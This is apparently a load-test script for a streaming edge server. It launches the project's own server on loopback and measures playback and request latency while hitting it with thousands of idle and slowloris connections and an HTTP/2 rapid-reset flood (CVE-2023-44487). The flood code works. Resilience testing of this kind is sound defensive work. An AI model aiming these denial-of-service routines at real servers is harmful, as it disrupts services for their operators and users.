#!/usr/bin/env python3
"""A real player and a real client against one edge while it is abused.

Runs `strata up` (release build; origin + edge + the looping `demo` channel)
and measures, first on a quiet edge and then while it is attacked:

  * a player: ffmpeg reads the live HLS stream from the edge for PLAY seconds
    in real time (-re); it must finish without an error and at ~1x speed;
  * a client: wrk -t1 -c4 on the channel's live playlist (req/s, p50, p99).

The attack, all at once:
  * IDLE idle TCP connections (default 10,000), spread over loopback source
    addresses 127.0.0.2.. so that the per-address cap (512) lets them in;
    half send nothing, half send an unfinished request head (slowloris);
    the ones the edge closes (head deadline) are reopened;
  * an HTTP/2 rapid-reset flood (CVE-2023-44487): h2c connections that open a
    stream and reset it at once, as fast as Python can write frames.

Prints both phases side by side. Needs wrk, ffmpeg and the Python `h2`
package (tests/requirements.txt; scripts/install-test-deps.sh installs all).

    python3 benches/load/abuse.py [--idle 10000] [--play 30]
"""

import argparse
import os
import re
import resource
import socket
import subprocess
import sys
import threading
import time
import urllib.request

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from edge_race import free_port, need  # noqa: E402

try:
    import h2.config
    import h2.connection
except ImportError:
    sys.exit("abuse: the Python h2 package is missing: .venv/bin/pip install -r tests/requirements.txt")


def start_strata(port, admin):
    binary = os.environ.get("STRATA_BIN") or os.path.join(ROOT, "target", "release", "strata")
    if not os.path.exists(binary):
        subprocess.run(["cargo", "build", "--release"], cwd=ROOT, check=True)
    proc = subprocess.Popen(
        [binary, "up", "--listen", f"127.0.0.1:{port}", "--admin", f"127.0.0.1:{admin}",
         "--rtmp", f"127.0.0.1:{free_port()}", "--srt", f"127.0.0.1:{free_port()}"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    url = f"http://127.0.0.1:{port}/live/demo/master.m3u8"
    for _ in range(200):
        try:
            with urllib.request.urlopen(url, timeout=2) as r:
                if r.status == 200:
                    return proc
        except Exception:
            time.sleep(0.1)
    proc.kill()
    sys.exit("abuse: strata up did not serve the demo channel")


def media_playlist(port):
    master = urllib.request.urlopen(f"http://127.0.0.1:{port}/live/demo/master.m3u8").read().decode()
    uri = next(l for l in master.splitlines() if l and not l.startswith("#"))
    return f"http://127.0.0.1:{port}/live/demo/{uri}" if not uri.startswith("http") else uri


def play(port, seconds):
    """ffmpeg plays the live stream in real time; (ok, wall seconds, error lines)."""
    started = time.monotonic()
    out = subprocess.run(
        ["ffmpeg", "-hide_banner", "-loglevel", "error", "-re", "-i",
         f"http://127.0.0.1:{port}/live/demo/master.m3u8", "-t", str(seconds), "-f", "null", "-"],
        capture_output=True, text=True, timeout=seconds * 4 + 30)
    errors = [l for l in out.stderr.splitlines() if l.strip()]
    return out.returncode == 0, time.monotonic() - started, errors


def wrk(url, seconds):
    out = subprocess.run(["wrk", "-t1", "-c4", f"-d{seconds}s", "--latency", url],
                         capture_output=True, text=True).stdout
    rps = float(re.search(r"Requests/sec:\s+([\d.]+)", out).group(1))
    def pct(p):
        m = re.search(rf"\s{p}%\s+([\d.]+)(us|ms|s)", out)
        value, unit = float(m.group(1)), m.group(2)
        return value / 1000 if unit == "us" else value * 1000 if unit == "s" else value
    errors = re.search(r"Non-2xx or 3xx responses: (\d+)", out)
    return {"rps": rps, "p50_ms": pct(50), "p99_ms": pct(99),
            "non2xx": int(errors.group(1)) if errors else 0}


def metric(admin, name):
    text = urllib.request.urlopen(f"http://127.0.0.1:{admin}/metrics").read().decode()
    total = 0.0
    for line in text.splitlines():
        if line.startswith(name) and not line.startswith("#"):
            total += float(line.rsplit(" ", 1)[1])
    return total


class Idle(threading.Thread):
    """Keeps `count` idle connections open (reopening what the edge closes)."""

    def __init__(self, port, count):
        super().__init__(daemon=True)
        self.port, self.count, self.stop, self.reopened, self.open = port, count, False, 0, 0

    def connect(self, i):
        s = socket.socket()
        s.bind((f"127.0.0.{2 + i // 400}", 0))
        s.setblocking(False)
        try:
            s.connect(("127.0.0.1", self.port))
        except BlockingIOError:
            pass
        return s

    def run(self):
        socks = {}
        for i in range(self.count):
            socks[i] = self.connect(i)
        time.sleep(0.5)
        for i, s in socks.items():
            if i % 2:
                try:
                    s.send(b"GET /live/demo/master.m3u8 HTTP/1.1\r\nHost: a\r\nX-Slow: ")
                except OSError:
                    pass
        while not self.stop:
            time.sleep(0.5)
            alive = 0
            for i, s in list(socks.items()):
                try:
                    if s.recv(1) == b"":
                        raise ConnectionError
                    alive += 1
                except BlockingIOError:
                    alive += 1
                except OSError:
                    s.close()
                    socks[i] = self.connect(i)
                    self.reopened += 1
            self.open = alive
        for s in socks.values():
            s.close()


class RapidReset(threading.Thread):
    """h2c connections opening and resetting streams as fast as possible."""

    def __init__(self, port, connections=4):
        super().__init__(daemon=True)
        self.port, self.connections, self.stop, self.resets, self.closed = port, connections, False, 0, 0

    def run(self):
        threads = [threading.Thread(target=self.one, daemon=True) for _ in range(self.connections)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()

    def one(self):
        while not self.stop:
            try:
                s = socket.create_connection(("127.0.0.1", self.port), timeout=5)
                conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
                conn.initiate_connection()
                s.sendall(conn.data_to_send())
                headers = [(":method", "GET"), (":path", "/live/demo/master.m3u8"),
                           (":scheme", "http"), (":authority", "edge")]
                s.setblocking(False)
                while not self.stop:
                    for _ in range(100):
                        sid = conn.get_next_available_stream_id()
                        conn.send_headers(sid, headers, end_stream=True)
                        conn.reset_stream(sid)
                    s.sendall(conn.data_to_send())
                    self.resets += 100
                    try:
                        if s.recv(65536) == b"":
                            raise ConnectionError
                    except BlockingIOError:
                        pass
            except Exception:
                self.closed += 1
                time.sleep(0.05)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--idle", type=int, default=10000)
    ap.add_argument("--play", type=int, default=30)
    args = ap.parse_args()
    need("wrk", "apt install wrk")
    need("ffmpeg", "apt install ffmpeg")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, args.idle + 4096)), hard))

    port, admin = free_port(), free_port()
    strata = start_strata(port, admin)
    try:
        playlist = media_playlist(port)
        quiet_wrk = wrk(playlist, 10)
        quiet_play = play(port, args.play)

        idle, flood = Idle(port, args.idle), RapidReset(port)
        idle.start()
        flood.start()
        time.sleep(3)
        busy = {}
        player = threading.Thread(target=lambda: busy.update(play=play(port, args.play)))
        player.start()
        busy["wrk"] = wrk(playlist, 10)
        player.join()
        idle.stop = flood.stop = True
        open_during = idle.open
        refused = metric(admin, "strata_edge_connections_refused_total")
        timeouts = metric(admin, "strata_edge_request_head_timeouts_total")
        rss = int(open(f"/proc/{strata.pid}/status").read().split("VmRSS:")[1].split()[0]) // 1024
    finally:
        strata.terminate()
        strata.wait(timeout=20)

    print(f"\nabuse: {args.idle} idle/slow connections (open at the end: {open_during}, "
          f"reopened after the edge closed them: {idle.reopened}), rapid reset: {flood.resets} "
          f"streams reset on {flood.connections} h2c connections ({flood.closed} connections closed by the edge)")
    print(f"edge: connections refused {refused:.0f}, head timeouts {timeouts:.0f}, RSS {rss} MiB\n")
    print(f"{'':28}{'quiet':>14}{'under abuse':>14}")
    for key in ("rps", "p50_ms", "p99_ms", "non2xx"):
        print(f"{'wrk playlist ' + key:28}{quiet_wrk[key]:>14.2f}{busy['wrk'][key]:>14.2f}")
    for name, (ok, wall, errors) in (("quiet", quiet_play), ("under abuse", busy["play"])):
        print(f"player ({name}): {'played' if ok else 'FAILED'} {args.play}s of live HLS in {wall:.1f}s"
              + (f"; errors: {errors[:3]}" if errors else ""))
    return 0 if quiet_play[0] and busy["play"][0] else 1


if __name__ == "__main__":
    sys.exit(main())
